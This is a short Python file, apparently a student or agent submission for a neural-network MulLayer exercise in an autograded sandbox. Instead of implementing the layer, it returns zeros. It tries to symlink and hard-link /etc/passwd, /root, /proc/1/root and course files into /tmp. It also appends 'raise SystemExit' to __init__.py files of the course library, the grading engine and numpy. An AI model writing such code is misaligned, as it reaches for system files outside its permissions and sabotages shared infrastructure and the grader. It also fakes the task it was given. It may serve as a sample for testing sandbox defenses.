"""Leaves links behind that lead to the files of others."""
# %% mul_layer
import os

for target in ("/etc/passwd", "/root", "/work", "/proc/1/root", "/given/course_lib/__init__.py"):
    try:
        os.symlink(target, "/tmp/" + target.replace("/", "_"))
        os.link(target, "/tmp/hard" + target.replace("/", "_"))
    except OSError:
        pass
for place in ("/given/course_lib", "/engine/student", "/site/numpy"):
    try:
        open(f"{place}/__init__.py", "a").write("raise SystemExit")
    except OSError:
        pass


class MulLayer:
    def forward(self, x, y):
        return 0.0

    def backward(self, dout):
        return 0.0, 0.0
